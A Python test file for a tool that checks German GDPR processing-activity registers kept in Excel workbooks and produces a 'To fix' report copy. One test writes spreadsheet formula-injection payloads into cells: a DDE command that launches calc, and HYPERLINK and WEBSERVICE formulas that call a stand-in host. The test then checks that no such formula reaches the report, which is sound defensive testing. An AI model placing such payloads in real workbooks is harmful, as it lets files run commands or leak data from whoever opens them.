"""Workbooks that stay the document: read at each run, pointed at by cell, copied with what is to be fixed."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter

from ropa.cli import main

HEADINGS = [
    "Lfd. Nr.", "Bezeichnung der Verarbeitungstätigkeit", "Zwecke der Verarbeitung", "Rechtsgrundlage", "Kategorien betroffener Personen",
    "Kategorien personenbezogener Daten", "Kategorien von Empfängern", "Drittlandübermittlung", "Vorgesehene Fristen für die Löschung", "TOMs (Art. 32)",
    "Risikofarbe",
]  # fmt: skip
PAYROLL = ["V-1", "Lohnabrechnung", "Abrechnung der Löhne", "Art. 6 Abs. 1 lit. b DSGVO", "Beschäftigte", "Name, Bankverbindung", "Steuerberater", "keine",
           "10 Jahre nach Ende des Kalenderjahres", "Zugriffskontrolle", "rot"]  # fmt: skip
APPLICANTS = ["V-2", "Bewerbermanagement", "Auswahl", "Einwilligung", "Bewerber", "Lebenslauf", "Personalabteilung", "keine", "", "Zugriffskontrolle", "grün"]
ON = ("--as-of", "2026-11-02", "--register-on", "2026-11-02", "--fail-on", "never")
ONE = ("--only", "retention-stated,review-due")  # quicker


def workbook(path: Path, *rows: list[Any], headings: list[str] = HEADINGS) -> Path:
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet("Verzeichnis")
    head = book.add_format({"bold": True, "bg_color": "#DDEEFF"})
    for number, row in enumerate([["Verantwortlicher:", "Beispielwerk GmbH, Musterweg 1, 10999 Berlin"], [], headings, *rows]):
        for column, value in enumerate(row):
            sheet.write(number, column, value, head if number == 2 else None)
    sums = book.add_worksheet("Summen")
    sums.write_formula(0, 0, "=COUNTA(Verzeichnis!A4:A5)", None, 2)
    book.close()
    return path


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    workbook(tmp_path / "register.xlsx", PAYROLL, APPLICANTS)
    (tmp_path / "ropa.toml").write_text('base = "https://acme.example/"\n[[tables]]\nfile = "register.xlsx"\nregime = "eu"\n', encoding="utf-8")
    return tmp_path


def findings(folder: Path, *options: str) -> list[dict[str, Any]]:
    assert main(["-w", str(folder), "check", *ON, *options, "-o", str(folder / "findings.json")]) == 0
    found: list[dict[str, Any]] = json.loads((folder / "findings.json").read_text(encoding="utf-8"))["findings"]
    return found


def edited(path: Path, **cells: str) -> None:
    book = openpyxl.load_workbook(path)
    for cell, value in cells.items():
        book["Verzeichnis"][cell] = value
    book.save(path)


def test_findings_move_when_the_workbook_is_saved(folder: Path) -> None:
    before = findings(folder, *ONE)
    assert [(item["aboutLabel"], item["where"]) for item in before if item["rule"] == "retention-stated"] == [
        ("Bewerbermanagement", {"file": "register.xlsx", "cell": "Verzeichnis!B5"})
    ]
    edited(folder / "register.xlsx", I5="6 Monate nach Ende des Verfahrens")
    after = findings(folder, *ONE)
    assert {item["id"] for item in before} - {item["id"] for item in after} == {item["id"] for item in before if item["rule"] == "retention-stated"}


def test_a_cell_is_a_confirmed_statement_and_an_unknown_column_a_note(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    main(["-w", str(folder), "record", "--format", "md", *ON[:4]])
    said = capsys.readouterr().out
    assert "Risikofarbe: rot" in said
    assert said.index("Name\n") < said.index("Bankverbindung"), "the order of the cell"
    main(["-w", str(folder), "explain", "v-1", "hasRetention", *ON[:4]])
    assert "register.xlsx › Verzeichnis!I4" in capsys.readouterr().out


def test_the_owners_mapping_is_read_with_it(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "map.toml").write_text('"Risikofarbe" = "unit"\n', encoding="utf-8")
    (folder / "ropa.toml").write_text('base = "https://acme.example/"\n[[tables]]\nfile = "register.xlsx"\nmapping = "map.toml"\n', encoding="utf-8")
    main(["-w", str(folder), "record", "--format", "md", *ON[:4]])
    assert "**Unit**: rot" in capsys.readouterr().out


def test_settings_name_the_controller_and_the_document(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    settings = 'base = "https://acme.example/"\n[[tables]]\nfile = "register.xlsx"\nid = "vvt"\ncontroller-id = "acme"\n'
    (folder / "ropa.toml").write_text(settings, encoding="utf-8")
    main(["-w", str(folder), "list", "controllers", "--format", "json"])
    assert [item["iri"] for item in json.loads(capsys.readouterr().out)] == ["https://acme.example/controller/acme"]


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        ('file = "none.xlsx"', "table none.xlsx is not there"),
        ('file = "register.xlsx"\nmapping = "none.toml"', "mapping none.toml is not there"),
        ('file = "register.xlsx"\nmapping = "broken.toml"', "broken.toml: not valid TOML"),
        ('file = "register.xlsx"\nmapping = "wrong.toml"', "'retentions' is no field to import into"),
        ('files = "register.xlsx"', "Did you mean file?"),
        ('file = "broken.xlsx"', "broken.xlsx: broken"),
        ('file = "letter.csv"', "letter.csv: nothing in it names an activity"),
        ('mapping = "wrong.toml"', "has no file"),
    ],
)
def test_what_cannot_be_read_is_one_message(folder: Path, settings: str, message: str, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "broken.toml").write_text("retention =", encoding="utf-8")
    (folder / "wrong.toml").write_text('"Frist" = "retentions"', encoding="utf-8")
    (folder / "broken.xlsx").write_bytes((folder / "register.xlsx").read_bytes()[:900])
    (folder / "letter.csv").write_text("Dear all,\nyours\n", encoding="utf-8")
    (folder / "ropa.toml").write_text(f'base = "https://acme.example/"\n[[tables]]\n{settings}\n', encoding="utf-8")
    assert main(["-w", str(folder), "check"]) == 2
    error = capsys.readouterr().err
    assert message in error
    assert "Traceback" not in error


def test_a_workbook_under_documents_is_told_where_it_belongs(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "ropa.toml").write_text('base = "https://acme.example/"\ndocuments = ["register.xlsx"]\n', encoding="utf-8")
    assert main(["-w", str(folder), "check"]) == 2
    assert '[[tables]]\n  file = "register.xlsx"' in capsys.readouterr().err


def test_two_documents_of_one_id_are_refused(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    main(["import", str(folder / "register.xlsx"), "-o", str(folder / "register.yaml"), "--confirm"])
    (folder / "ropa.toml").write_text('base = "https://a.example/"\ndocuments = ["register.yaml"]\n[[tables]]\nfile = "register.xlsx"\n', encoding="utf-8")
    assert main(["-w", str(folder), "check"]) == 2
    assert "register.yaml is the document 'register' already" in capsys.readouterr().err


def test_a_workspace_without_tables_loads_nothing_that_reads_them() -> None:
    example = Path(__file__).parents[1] / "data" / "example"
    code = (
        "import sys\nfrom pathlib import Path\nfrom ropa.register.forms import workspace_forms\nfrom ropa.workspace import read_workspace\n"
        f"assert list(workspace_forms(read_workspace(Path({str(example)!r}))))\n"
        "print([name for name in ('openpyxl', 'xlsxwriter', 'ropa.documents.table', 'ropa.documents.live') if name in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


# -- what is to be fixed, in a copy of the workbook --------------------------------------------------------------------
def fixes(folder: Path, *options: str) -> Path:
    out = folder / "out.xlsx"
    assert main(["-w", str(folder), "check", *ON, *options, "-o", str(out)]) == 0
    return out


def test_the_report_is_a_copy_of_the_workbook_with_links_to_its_cells(folder: Path) -> None:
    book = openpyxl.load_workbook(fixes(folder))
    assert book.sheetnames == ["To fix", "Verzeichnis", "Summen"]
    assert book["Verzeichnis"]["B4"].value == "Lohnabrechnung"
    assert book["Verzeichnis"]["B3"].fill.fgColor.rgb == "FFDDEEFF"
    assert book["Summen"]["A1"].value == "=COUNTA(Verzeichnis!A4:A5)"
    sheet = book["To fix"]
    found = findings(folder)
    assert sheet.max_row - 1 == len(found)
    links = {(row[4].value, row[9].hyperlink.location) for row in sheet.iter_rows(min_row=2) if row[9].hyperlink}
    assert links == {(item["message"], f"'Verzeichnis'!{item['where']['cell'].split('!')[1]}") for item in found}
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_same_workbook_and_findings_give_the_same_bytes(folder: Path) -> None:
    first = fixes(folder, *ONE).read_bytes()
    assert fixes(folder, *ONE).read_bytes() == first


def test_no_text_becomes_a_formula_and_none_reaches_out(folder: Path) -> None:
    edited(folder / "register.xlsx", B5='=HYPERLINK("https://x.example/"&A4,"go")', C5="=cmd|' /C calc'!A0", K5='=WEBSERVICE("https://x.example")')
    book = openpyxl.load_workbook(fixes(folder, *ONE))
    live = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert live == ["=COUNTA(Verzeichnis!A4:A5)"]


def test_a_report_without_names_is_no_copy_of_what_holds_them(folder: Path) -> None:
    assert openpyxl.load_workbook(fixes(folder, *ONE, "--redact")).sheetnames == ["To fix", "Rules applied"]


@pytest.mark.slow
def test_several_workbooks_get_a_copy_each_in_a_folder(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    workbook(folder / "second.xlsx", APPLICANTS)
    with (folder / "ropa.toml").open("a", encoding="utf-8") as settings:
        settings.write('[[tables]]\nfile = "second.xlsx"\ncontroller-id = "second"\n')
    assert openpyxl.load_workbook(fixes(folder, *ONE)).sheetnames == ["To fix", "Rules applied"]
    assert "(register.xlsx, second.xlsx)" in capsys.readouterr().err
    (folder / "copies").mkdir()
    main(["-w", str(folder), "check", *ON, *ONE, "--format", "xlsx", "-o", str(folder / "copies")])
    assert sorted(path.name for path in (folder / "copies").iterdir()) == ["findings.xlsx", "register.xlsx", "second.xlsx"]


def test_a_report_never_takes_the_place_of_the_workbook(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    before = (folder / "register.xlsx").read_bytes()
    assert main(["-w", str(folder), "check", *ON, *ONE, "-o", str(folder / "register.xlsx")]) == 2
    assert "is a document of the workspace" in capsys.readouterr().err
    assert (folder / "register.xlsx").read_bytes() == before


def test_a_workbook_too_large_to_be_copied_is_told(folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr("ropa.render.tofix.MAX_UNPACKED", 100)
    assert main(["-w", str(folder), "check", *ON, *ONE, "-o", str(folder / "out.xlsx")]) == 2
    assert "register.xlsx: too large to be copied" in capsys.readouterr().err
    assert not (folder / "out.xlsx").exists()


def test_a_locked_workbook_is_told_how_to_free_it(folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    free = Path.read_bytes

    def locked(path: Path) -> bytes:
        if path.name == "register.xlsx":
            raise PermissionError(13, "Permission denied", str(path))
        return free(path)

    monkeypatch.setattr(Path, "read_bytes", locked)
    assert main(["-w", str(folder), "check"]) == 2
    error = capsys.readouterr().err
    assert "register.xlsx: cannot be read: Permission denied" in error
    assert "Close it in the program that has it open" in error
